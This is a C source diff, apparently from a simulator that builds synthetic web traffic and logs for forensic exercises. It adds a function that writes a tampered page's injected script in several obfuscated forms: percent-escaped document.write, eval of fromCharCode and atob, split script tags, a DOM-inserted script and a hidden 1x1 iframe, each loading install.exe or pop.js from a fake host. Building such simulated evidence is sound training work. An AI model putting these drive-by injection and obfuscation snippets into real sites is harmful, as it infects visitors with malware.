@@ -36,7 +36,7 @@ void web_end(struct webconn *w)
 	}
 }
 
-static struct buf reqb, respb, bodyb, gzb, alogb;
+static struct buf reqb, respb, bodyb, gzb, alogb, likeb, likegzb;
 
 static void access_log(struct webconn *w, bs_time t, const char *method, const char *uri, int status, size_t bytes,
 	const char *referer)
@@ -150,8 +150,59 @@ static void iis_access_log(struct webconn *w, bs_time t, const char *method, con
 			NULL, 200);
 }
 
-static const char TROJAN[] =
-	"<script>window.open(\"http://update.flash-player.example.cn/install.exe\",\"_blank\",\"width=400,height=300\")</script>\n";
+/* The injected code, per tamper style: the reference's window.open call
+ * written plainly, or obfuscated as real injected code is (docs/SAMPLES.md,
+ * "Tamper styles"). Every form loads from the same host. */
+#define TROJAN_HOST "update.flash-player.example.cn"
+#define POPUP "window.open(\"http://" TROJAN_HOST "/install.exe\",\"_blank\",\"width=400,height=300\")"
+static const char WINDOW_OPEN[] = "<script>" POPUP "</script>\n";
+static const char POPJS[] = "<script src=\"http://" TROJAN_HOST "/pop.js\"></script>";
+
+const char *tamper_snippet(void)
+{
+	static struct buf b;
+	static int built = -1;
+	if (built == (int)W.tamper)
+		return b.p;
+	buf_clear(&b);
+	switch (W.tamper) {
+	case STYLE_WINDOW_OPEN:
+		buf_puts(&b, WINDOW_OPEN);
+		break;
+	case STYLE_UNESCAPE: /* every byte as %XX */
+		buf_puts(&b, "<script type=\"text/javascript\">document.write(unescape(\"");
+		for (const char *p = POPJS; *p; p++)
+			buf_printf(&b, "%%%02X", (unsigned)(unsigned char)*p);
+		buf_puts(&b, "\"));</script>\n");
+		break;
+	case STYLE_DOM_SCRIPT:
+		buf_puts(&b, "<script>(function(){var s=document.createElement('script');s.src='http:\\/\\/" TROJAN_HOST
+			"\\/pop.js';document.getElementsByTagName('head')[0].appendChild(s);})();</script>\n");
+		break;
+	case STYLE_CHARCODE: /* decimal character codes */
+		buf_puts(&b, "<script>eval(String.fromCharCode(");
+		for (size_t i = 0; i < sizeof POPUP - 1; i++)
+			buf_printf(&b, "%s%u", i ? "," : "", (unsigned)(unsigned char)POPUP[i]);
+		buf_puts(&b, "))</script>\n");
+		break;
+	case STYLE_SPLIT_TAG:
+		buf_puts(&b, "<script>document.write('<scr'+'ipt src=\"http://" TROJAN_HOST "/pop.js\"></scr'+'ipt>');</script>\n");
+		break;
+	case STYLE_ATOB: /* standard base64, '=' padded */
+		buf_puts(&b, "<script>eval(atob(\"");
+		base64_encode(&b, POPUP, sizeof POPUP - 1);
+		buf_puts(&b, "\"))</script>\n");
+		break;
+	case STYLE_CHAR_REFS: /* the scheme as decimal character references */
+		buf_puts(&b, "<iframe src=\"");
+		for (const char *p = "http://"; *p; p++)
+			buf_printf(&b, "&#%u;", (unsigned)(unsigned char)*p);
+		buf_puts(&b, TROJAN_HOST "/install.html\" width=\"1\" height=\"1\" frameborder=\"0\"></iframe>\n");
+		break;
+	}
+	built = (int)W.tamper;
+	return b.p;
+}
 
 bs_time web_request(struct webconn *w, bs_time t, const char *method, const char *uri, const char *req_headers,
 	const char *body, size_t blen, const struct http_reply *rep, int cookie_user)
@@ -189,13 +240,26 @@ bs_time web_request(struct webconn *w, bs_time t, const char *method, const char
 	const char *rbody = rep->body;
 	size_t rlen = rep->blen;
 	bool tampered = rep->page && page_tampered(w->server, treq);
+	/* In another tamper style than the reference's, the draws and the
+	 * capture's times follow the body with the reference's snippet (like:
+	 * its length as sent), so that the world and its truth stay the same
+	 * whatever the style. */
+	bool other = tampered && W.tamper != STYLE_WINDOW_OPEN;
+	size_t like = rlen;
 	if (tampered) {
 		buf_clear(&bodyb);
 		const char *end = memmem(rbody, rlen, "</body>", 7);
 		size_t pre = end ? (size_t)(end - rbody) : rlen;
 		buf_add(&bodyb, rbody, pre);
-		buf_add(&bodyb, TROJAN, sizeof TROJAN - 1);
+		buf_puts(&bodyb, tamper_snippet());
 		buf_add(&bodyb, rbody + pre, rlen - pre);
+		if (other) {
+			buf_clear(&likeb);
+			buf_add(&likeb, rbody, pre);
+			buf_add(&likeb, WINDOW_OPEN, sizeof WINDOW_OPEN - 1);
+			buf_add(&likeb, rbody + pre, rlen - pre);
+		}
+		like = rlen + sizeof WINDOW_OPEN - 1;
 		rbody = bodyb.p;
 		rlen = bodyb.n;
 		struct webserver *ws = &WS[w->server];
@@ -208,13 +272,19 @@ bs_time web_request(struct webconn *w, bs_time t, const char *method, const char
 		if (cookie_user >= 0)
 			truth_trojan(cookie_user);
 	}
-	bool gz = rep->ctype && rlen > 600 && strncmp(rep->ctype, "text/", 5) == 0 && rng_chance(R, 0.2);
-	bool chunked = rep->ctype && !gz && rlen > 0 && rng_chance(R, 0.3);
+	bool gz = rep->ctype && like > 600 && strncmp(rep->ctype, "text/", 5) == 0 && rng_chance(R, 0.2);
+	bool chunked = rep->ctype && !gz && like > 0 && rng_chance(R, 0.3);
 	if (gz) {
 		buf_clear(&gzb);
 		gzip_bytes(&gzb, rbody, rlen);
 		rbody = gzb.p;
 		rlen = gzb.n;
+		like = rlen;
+		if (other) {
+			buf_clear(&likegzb);
+			gzip_bytes(&likegzb, likeb.p, likeb.n);
+			like = likegzb.n;
+		}
 	}
 	char date[64], iso[40];
 	bs_time_format(treq, 0, iso, sizeof iso);
@@ -241,23 +311,39 @@ bs_time web_request(struct webconn *w, bs_time t, const char *method, const char
 	if (rep->ctype)
 		buf_printf(&respb, "Content-Type: %s\r\n", rep->ctype);
 	buf_puts(&respb, "\r\n");
+	/* like_len: what the response with the reference's snippet would be */
+	size_t like_len = respb.n;
 	if (chunked) {
-		size_t off = 0;
-		while (off < rlen) {
+		/* The sizes are drawn for the like body; the last chunk takes
+		 * what another style's snippet adds (or the body ends early). */
+		size_t off = 0, loff = 0;
+		while (loff < like) {
 			size_t n = 1024 + rng_below(R, 3000);
-			if (n > rlen - off)
+			if (n > like - loff)
+				n = like - loff;
+			loff += n;
+			like_len += (size_t)snprintf(NULL, 0, "%zx", n) + 2 + n + 2;
+			if (loff == like || n > rlen - off)
 				n = rlen - off;
+			if (!n)
+				continue;
 			buf_printf(&respb, "%zx\r\n", n);
 			buf_add(&respb, rbody + off, n);
 			buf_puts(&respb, "\r\n");
 			off += n;
 		}
 		buf_puts(&respb, "0\r\n\r\n");
+		like_len += 5;
 	} else {
 		buf_add(&respb, rbody, rlen);
+		/* the Content-Length header's digits, then the body */
+		like_len += (size_t)snprintf(NULL, 0, "%zu", like) + like;
+		like_len -= (size_t)snprintf(NULL, 0, "%zu", rlen);
 	}
 	tcp_wait(&w->tc, 2000 + rng_below(R, 60000));
-	tcp_send(&w->tc, true, respb.p, respb.n);
+	if (like_len > respb.n) /* tcp_send_as's room */
+		buf_reserve(&respb, like_len - respb.n);
+	tcp_send_as(&w->tc, true, respb.p, respb.n, like_len);
 	w->idle_since = w->tc.t;
 	/* Apache logs body bytes sent (after compression, without chunk framing). */
 	const char *ref = NULL;
